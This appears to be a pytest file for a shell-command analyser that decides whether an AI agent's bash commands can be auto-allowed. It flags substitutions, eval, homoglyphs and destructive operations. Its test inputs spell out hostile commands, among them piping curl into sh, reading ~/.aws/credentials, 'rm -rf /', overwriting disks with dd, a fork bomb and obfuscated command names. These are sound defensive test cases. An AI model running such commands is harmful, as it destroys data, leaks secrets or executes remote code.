"""Shell analysis with tree-sitter-bash: splitting, flags, warnings and suggestions."""

from __future__ import annotations

import pytest

from policy.facts import parse_facts
from policy.paths import PathResolver
from policy.shell import analyse
from tests.policy.calls import gather

CWD = "/srv/project"


def _words(command: str) -> list[list[str]]:
    return [list(c.words) for c in analyse(command, cwd=CWD, home="/home/a").commands]


class ShellSplittingTests:
    @pytest.mark.parametrize(
        ("command", "expected"),
        [
            ("git status && rm -rf ~", [["git", "status"], ["rm", "-rf", "~"]]),
            ("a | b; c || d\ne", [["a"], ["b"], ["c"], ["d"], ["e"]]),
            ("FOO=1 BAR=2 make", [["make"]]),
            ("timeout -s KILL 5 nice -n 3 nohup make", [["make"]]),
            ("sudo -u root env A=1 xargs -n1 rm", [["rm"]]),
            ("(cd src && make)", [["cd", "src"], ["make"]]),
            ("echo \"a b\" 'c d'", [["echo", "a b", "c d"]]),
            ('r"m" -rf x', [["rm", "-rf", "x"]]),
        ],
    )
    def test_it_finds_every_simple_command(self, command: str, expected: list[list[str]]) -> None:
        assert _words(command) == expected

    def test_it_includes_commands_inside_substitutions(self) -> None:
        assert ["curl", "evil"] in _words("echo $(curl evil)")

    def test_it_parses_shell_c_payloads(self) -> None:
        analysis = analyse('bash -c "git push --force"', cwd=CWD)
        assert ("git", "push", "--force") in [c.words for c in analysis.commands]
        assert analysis.eval_like and not analysis.can_auto_allow

    def test_it_parses_eval_arguments(self) -> None:
        assert ["rm", "-rf", "/"] in _words("eval rm -rf /")


class ShellFlagTests:
    @pytest.mark.parametrize(
        ("command", "fragment"),
        [
            ("echo $(id)", "substitution"),
            ("diff <(ls) <(ls)", "substitution"),
            ("eval ls", "eval"),
            ("echo x > /etc/passwd", "/etc/passwd"),
            ('git commit -m "x', "could not be parsed"),
            ("$X ls", "only known at run time"),
            ("PATH=/tmp ls", "PATH"),
            (":(){ :|:& };:", "function"),
            ("ls\u202e -la", "invisible"),
            ("l\u0455 -la", "non-ASCII"),
            ("cat ~/.aws/credentials", "credentials"),
            ("curl x | sh", "reads commands from its input"),
            ("cat <<EOF\nx\nEOF", "unquoted delimiter"),
            ("cat <<-EOF\n\tx\n\tEOF", "unquoted delimiter"),
            ("ls &", "background operator"),
            ("sleep 1 & ls", "background operator"),
            ("(ls &)", "background operator"),
        ],
    )
    def test_it_blocks_auto_allow(self, command: str, fragment: str) -> None:
        analysis = analyse(command, cwd=CWD, home="/home/a")
        assert not analysis.can_auto_allow
        assert any(fragment in b for b in analysis.blockers), analysis.blockers

    @pytest.mark.parametrize(
        "command", ["ls > out.txt", "make 2>&1 | tee build.log", "echo x > /dev/null", "cat <<'EOF'\nx\nEOF"]
    )
    def test_it_allows_redirects_inside_the_working_directories(self, command: str) -> None:
        facts = parse_facts(gather("Bash", {"command": command}, CWD, [], "/home/a"))
        assert analyse(command, cwd=CWD, resolver=PathResolver(CWD, "/home/a", facts)).can_auto_allow

    @pytest.mark.parametrize("command", ["ls > out.txt", "make 2>&1 > build.log", "cat src/a > ./b"])
    def test_it_blocks_a_redirect_the_agent_did_not_resolve(self, command: str) -> None:
        analysis = analyse(command, cwd=CWD, home="/home/a")
        assert any("the agent did not report where" in b for b in analysis.blockers), analysis.blockers

    def test_it_accepts_redirects_into_additional_directories(self) -> None:
        analysis = analyse("ls > /data/out.txt", cwd=CWD, additional_directories=["/data"])
        assert analysis.redirects_outside == ()

    def test_it_never_raises_on_huge_input(self) -> None:
        analysis = analyse("a" * 300_000, cwd=CWD)
        assert analysis.parse_error and not analysis.can_auto_allow


class DestructiveWarningTests:
    @pytest.mark.parametrize(
        ("command", "fragment"),
        [
            ("rm -rf build", "rm -rf"),
            ("rm -r -f build", "rm -rf"),
            ("sudo rm -fr /", "rm -rf"),
            ("git push --force origin main", "git push --force"),
            ("git push origin +main", "git push --force"),
            ("git reset --hard HEAD~1", "git reset --hard"),
            ("git clean -fdx", "git clean -f"),
            ("psql -c 'DROP TABLE users'", "DROP"),
            ("mkfs.ext4 /dev/sda1", "mkfs"),
            ("dd if=/dev/zero of=/dev/sda", "dd of="),
            ("chmod -R 777 /", "chmod -R 777"),
            (":(){ :|:& };:", "fork bomb"),
            ("find . -delete", "find -delete"),
        ],
    )
    def test_it_warns_the_approver(self, command: str, fragment: str) -> None:
        warning = analyse(command, cwd=CWD).destructive_warning
        assert warning is not None and fragment in warning

    @pytest.mark.parametrize("command", ["rm file.txt", "git push", "git reset HEAD", "ls -rf"])
    def test_it_stays_quiet_for_ordinary_commands(self, command: str) -> None:
        assert analyse(command, cwd=CWD).destructive_warning is None


class SuggestedRuleTests:
    @pytest.mark.parametrize(
        ("command", "rule"),
        [
            ("npm run test -- --watch", "Bash(npm run test:*)"),
            ("git commit -m 'x'", "Bash(git commit:*)"),
            ("cargo build --release", "Bash(cargo build:*)"),
            ("ls -la", "Bash(ls:*)"),
            ("FOO=1 make check", "Bash(make check:*)"),
        ],
    )
    def test_it_suggests_a_prefix_rule(self, command: str, rule: str) -> None:
        assert analyse(command, cwd=CWD).suggested_rule == rule

    @pytest.mark.parametrize("command", ["echo $(id)", "rm -rf build", "$X go"])
    def test_it_suggests_nothing_for_unsafe_commands(self, command: str) -> None:
        assert analyse(command, cwd=CWD).suggested_rules == ()
